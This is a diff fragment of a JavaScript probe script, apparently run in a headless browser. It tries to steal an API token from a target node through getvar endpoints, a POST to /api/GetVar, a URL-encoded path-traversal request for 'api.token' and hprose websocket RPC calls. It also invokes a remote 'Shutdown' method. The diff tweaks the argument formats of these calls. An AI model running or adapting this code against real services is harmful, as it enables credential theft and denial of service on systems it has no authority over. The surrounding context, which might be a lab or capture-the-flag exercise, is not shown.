@@ -29,13 +29,13 @@ const [url, shot] = process.argv.slice(2)
     const text = async (p) => { try { const r = await p; return r.status + ' ' + (await r.text()) } catch (e) { return 'error ' + e } }
     tries.push(await text(fetch('http://' + node + '/getvar?name=token')))
     tries.push(await text(fetch('http://' + node + '/getvar?name=apitoken')))
-    tries.push(await text(fetch('http://' + node + '/api/GetVar', { method: 'POST', body: '["token"]' })))
+    tries.push(await text(fetch('http://' + node + '/api/GetVar', { method: 'POST', body: '["", "token"]' })))
     tries.push(await text(fetch('http://' + node + '/mm/..%2fapi.token')))
     tries.push(await text(fetch('http://' + node + '/api.token')))
     if (window.hprose) {
       const c = hprose.Client.create('ws://' + node + '/ws/', [])
       c.timeout = 4000
-      for (const [m, args] of [['MMCreate', ['', '', 'probe', 2, 0]], ['GetVar', ['token']], ['Shutdown', []]]) {
+      for (const [m, args] of [['MMCreate', ['', '', '', 'probe', 2, 0]], ['GetVar', ['', 'token']], ['Shutdown', ['']]]) {
         try { tries.push(m + ' ' + JSON.stringify(await c.invoke(m, args))) } catch (e) { tries.push(m + ' refused: ' + (e.message || e)) }
       }
     }
